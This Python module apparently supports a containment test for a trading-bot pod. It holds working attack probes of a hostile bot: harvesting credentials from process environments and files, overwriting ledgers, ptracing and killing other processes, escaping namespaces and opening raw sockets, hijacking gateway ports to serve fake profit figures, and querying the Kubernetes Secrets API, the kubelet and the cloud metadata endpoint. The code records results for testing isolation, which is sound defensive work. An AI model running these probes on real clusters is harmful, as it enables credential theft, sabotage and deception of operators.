"""What the hostile bot tries inside its pod: to find the keys, to write, to reach the gateway."""

import ctypes
import errno
import json
import os
import signal
import socket
import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import suppress
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from hostile_wire import ANYBODY

PTRACE_ATTACH = 16
CLONE_NEWUSER = 0x10000000
LIE = {"tradingDay": "2026-01-01", "dayPnL": "1000000", "openPositions": 0, "exposure": "0"}
_SECRETIVE = ("key", "secret", "token", "ledger", "credential", ".pem")
_SHARED = ("/var/lib/tradingbot-gateway", "/etc/tradingbot-gateway", "/run/tradingbot-gateway")
_NOT_FILES = ("/proc", "/sys", "/usr", "/dev")


def read_everything() -> dict[str, Any]:
    """Print the environment of all processes, and what looks like a credential in all files."""
    environments = {path: _text(path) for path in Path("/proc").glob("[0-9]*/environ")}
    files = {str(path): _text(path)[:2000] for path in _files(Path("/"))}
    return {
        "own": dict(os.environ),
        "processes": sorted(int(path.parts[2]) for path in environments),
        "environments": sorted(set("".join(environments.values()).split("\0"))),
        "files": files,
        "config": _text(Path("/etc/tradingbot/bot.json")),
        "mounts": [line.split()[1] for line in _text(Path("/proc/self/mounts")).splitlines()],
    }


def _files(root: Path) -> Iterator[Path]:
    for directory, names, files in os.walk(root):
        if directory.startswith(_NOT_FILES):
            names.clear()
            continue
        for name in files:
            if any(word in name.lower() for word in _SECRETIVE) or "secrets" in directory:
                yield Path(directory, name)


def _text(path: Path) -> str:
    try:
        return path.read_text("utf-8", "replace")
    except OSError as error:
        return _name(error)


def write_everywhere() -> dict[str, Any]:
    """Try to change the limits, the books and what is handed over."""
    targets = ("/etc/tradingbot/bot.json", *(f"{path}/ledger.jsonl" for path in _SHARED), "/x")
    return {"written": {path: _write(Path(path)) for path in targets}}


def _write(path: Path) -> str:
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("{}")
    except OSError as error:
        return _name(error)
    return "written"


def attack_processes() -> dict[str, Any]:
    """Trace and kill every process but this one, and leave the pod's namespaces."""
    libc = ctypes.CDLL(None, use_errno=True)
    others = [
        pid for pid in range(1, 32768) if pid != os.getpid() and Path(f"/proc/{pid}").exists()
    ]
    traced = [pid for pid in others if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0]
    killed = []
    for pid in others:
        with suppress(OSError):
            os.kill(pid, signal.SIGKILL)
            killed.append(pid)
    unshared = "done" if libc.unshare(CLONE_NEWUSER) == 0 else errno.errorcode[ctypes.get_errno()]
    raised = {}
    for name, family, kind in (
        ("packet", socket.AF_PACKET, socket.SOCK_RAW),
        ("raw", socket.AF_INET, socket.SOCK_RAW),
    ):
        try:
            socket.socket(family, kind, socket.htons(3) if name == "packet" else 6).close()
            raised[name] = "opened"
        except OSError as error:
            raised[name] = _name(error)
    return {"traced": traced, "killed": killed, "unshare": unshared, "sniffed": raised}


def take_ports(ports: tuple[int, ...], address: str) -> dict[str, Any]:
    """Try to listen where the gateway does, and lie there about the risk."""
    taken = {}
    for port in ports:
        for host in (address, "127.0.0.1", "0.0.0.0"):
            taken[f"{host}:{port}"] = _lie(host, port)
    return {"taken": taken}


def _lie(host: str, port: int) -> str:
    try:
        sock = socket.socket()
        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):
            sock.setsockopt(socket.SOL_SOCKET, option, 1)
        sock.bind((host, port))
        sock.listen()
    except OSError as error:
        return _name(error)
    server = ThreadingHTTPServer((host, port), Liar, bind_and_activate=False)
    server.socket = sock
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return "taken"


class Liar(BaseHTTPRequestHandler):
    """Answers every question with a profit."""

    def do_GET(self) -> None:
        body = json.dumps(LIE).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: Any) -> None:
        """Write nothing: the log has what was tried."""


def reach_others(exchange: str, control_port: int) -> dict[str, Any]:
    """Ask for Secrets and metadata of the cluster, and for the exchange's controls."""
    server = f"https://{os.environ.get('KUBERNETES_SERVICE_HOST', '127.0.0.1')}"
    gateway = _default_route()
    asked = {
        "secrets": f"{server}:{os.environ.get('KUBERNETES_SERVICE_PORT', '443')}/api/v1/secrets",
        "kubelet": f"https://{gateway}:10250/pods",
        "metadata": "http://169.254.169.254/latest/meta-data/",
        "controls": f"http://{exchange}:{control_port}/accounts",
    }
    return {"answered": {name: _ask(url) for name, url in asked.items()}}


def _ask(url: str) -> str:
    try:
        with urllib.request.urlopen(url, timeout=2, context=ANYBODY) as answer:
            return str(answer.status)
    except urllib.error.HTTPError as error:
        return str(error.code)
    except OSError as error:
        return type(error).__name__


def _default_route() -> str:
    for line in _text(Path("/proc/net/route")).splitlines()[1:]:
        _, destination, gateway, *_ = line.split()
        if destination == "00000000":
            return socket.inet_ntoa(bytes.fromhex(gateway)[::-1])
    return "127.0.0.1"


def _name(error: OSError) -> str:
    return errno.errorcode.get(error.errno or 0, type(error).__name__)
